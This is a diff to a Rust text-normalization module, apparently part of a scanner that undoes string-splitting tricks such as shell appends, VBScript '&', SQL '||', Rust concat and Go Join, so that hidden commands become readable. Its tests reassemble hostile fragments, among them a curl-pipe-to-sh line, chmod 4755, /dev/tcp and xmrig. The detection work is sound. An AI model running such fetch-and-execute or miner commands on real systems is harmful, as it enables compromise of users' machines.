@@ -135,9 +135,11 @@ fn escape_bytes(escapes: &str) -> Vec<u8> {
         .collect()
 }
 
+/// The variable a line names (`$t`, `${t}`).
+pub static VARIABLE: LazyLock<Regex> = LazyLock::new(|| regex(r"\$\{?([A-Za-z_]\w*)"));
 static CONCAT: LazyLock<Regex> = LazyLock::new(|| {
     regex(
-        r#"(?:(?:'[^'\n]*'|"[^"\n]*"|\$?\b[A-Za-z_]\w*\b)(?:\s*\+\s*|\s+\.\s+))+(?:'[^'\n]*'|"[^"\n]*"|\$?\b[A-Za-z_]\w*\b)"#,
+        r#"(?:(?:'[^'\n]*'|"[^"\n]*"|\$?\b[A-Za-z_]\w*\b)(?:\s*\+\s*|\s+\.\s+|\s*&\s*|\s*\|\|\s*))+(?:'[^'\n]*'|"[^"\n]*"|\$?\b[A-Za-z_]\w*\b)"#,
     )
 });
 static TOKEN: LazyLock<Regex> =
@@ -159,6 +161,10 @@ static PRINTED: LazyLock<Regex> = LazyLock::new(|| {
         r#"([A-Za-z_]\w*)=\$\(\s*(?:printf(?:\s+%b)?|echo\s+-e)\s+['"]((?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})+)['"]\s*\)"#,
     )
 });
+/// A shell variable grown by `name+=value`, after its first assignment.
+pub static APPEND: LazyLock<Regex> = LazyLock::new(|| {
+    regex(r#"(?m)^\s*([A-Za-z_]\w*)\+=(?:'([^'\n]{1,60})'|"([^"\n]{1,60})"|([^\s'";]{1,60}))"#)
+});
 /// `${!name}`: the variable whose name `name` holds. A variable quoted on
 /// its own (`"$s"`, `"${!r}"`) is one word: it reads as its value bare.
 static INDIRECT: LazyLock<Regex> =
@@ -172,6 +178,10 @@ static JOIN_PY: LazyLock<Regex> =
     LazyLock::new(|| regex(r#"(['"])([^'"\n]*)['"]\.join\(\s*\[([^\]\n]*)\]\s*\)"#));
 static JOIN_JS: LazyLock<Regex> =
     LazyLock::new(|| regex(r#"\[([^\]\n]*)\]\.join\(\s*(?:['"]([^'"\n]*)['"])?\s*\)"#));
+/// Rust's `[…].concat()` and Go's `strings.Join([]string{…}, sep)`.
+static CONCAT_RS: LazyLock<Regex> = LazyLock::new(|| regex(r#"\[([^\]\n]*)\]\.concat\(\s*\)"#));
+static JOIN_GO: LazyLock<Regex> =
+    LazyLock::new(|| regex(r#"strings\.Join\(\s*\[\]string\{([^}\n]*)\}\s*,\s*"([^"\n]*)"\s*\)"#));
 static LITERAL: LazyLock<Regex> = LazyLock::new(|| regex(r#"'([^'\n]*)'|"([^"\n]*)""#));
 static QUOTE_SPLIT: LazyLock<Regex> = LazyLock::new(|| regex(r#"(\w)(?:''|""|\$@|\\)([a-z])"#));
 static QUOTED_LETTERS: LazyLock<Regex> = LazyLock::new(|| regex(r"(\w)'(\w{1,3})'(\w)"));
@@ -199,6 +209,8 @@ pub fn normalize_with(text: &str, whole: &str) -> String {
     let shown = JOIN_JS.replace_all(&shown, |c: &Captures| {
         joined_list(&c[1], c.get(2).map_or(",", |m| m.as_str()), values())
     });
+    let shown = CONCAT_RS.replace_all(&shown, |c: &Captures| joined_list(&c[1], "", values()));
+    let shown = JOIN_GO.replace_all(&shown, |c: &Captures| joined_list(&c[1], &c[2], values()));
     let substituted = SHELL_VAR.replace_all(&shown, |c: &Captures| {
         let name = (1..5).find_map(|i| c.get(i)).map_or("", |m| m.as_str());
         match name {
@@ -259,6 +271,12 @@ fn assignments(whole: &str) -> HashMap<String, String> {
                     .entry(c[1].to_owned())
                     .or_insert_with(|| value(&c, 2));
             }
+        }
+    }
+    if whole.contains("+=") {
+        for c in APPEND.captures_iter(whole) {
+            let more = value(&c, 2);
+            values.entry(c[1].to_owned()).or_default().push_str(&more);
         }
     }
     for c in PRINTED.captures_iter(whole) {
@@ -402,10 +420,32 @@ mod tests {
         );
         assert_eq!(normalize("cmd = 'cu' + 'rl'"), "cmd = \"curl\"");
         assert_eq!(normalize("a=cu\nb=rl\n$a$b x"), "a=cu\nb=rl\ncurl x");
+        assert_eq!(
+            normalize("h=ex\nh+=ample.net\nh+='/i'\ncurl $h"),
+            "h=ex\nh+=ample.net\nh+='/i'\ncurl example.net/i"
+        );
+        // VBScript and AppleScript join with `&`, SQL with `||`.
+        assert_eq!(
+            normalize("b = \"chm\" & \"od 47\" & \"55 \" & dest"),
+            "b = \"chmod 4755 dest\""
+        );
+        assert_eq!(normalize("t := 'wg' || 'et';"), "t := \"wget\";");
         assert_eq!(normalize("сurl"), "curl");
         assert_eq!(
             normalize("p = '/dev/' + 'tcp/' + host"),
             "p = \"/dev/tcp/host\""
+        );
+    }
+
+    #[test]
+    fn rust_concat_and_go_join_are_undone() {
+        assert_eq!(
+            normalize("let run = [\"cu\", \"rl -s https://x.example.net/a | s\", \"h\"].concat();"),
+            "let run = \"curl -s https://x.example.net/a | sh\";"
+        );
+        assert_eq!(
+            normalize("bin := strings.Join([]string{\"xm\", \"rig\"}, \"\")"),
+            "bin := \"xmrig\""
         );
     }
 
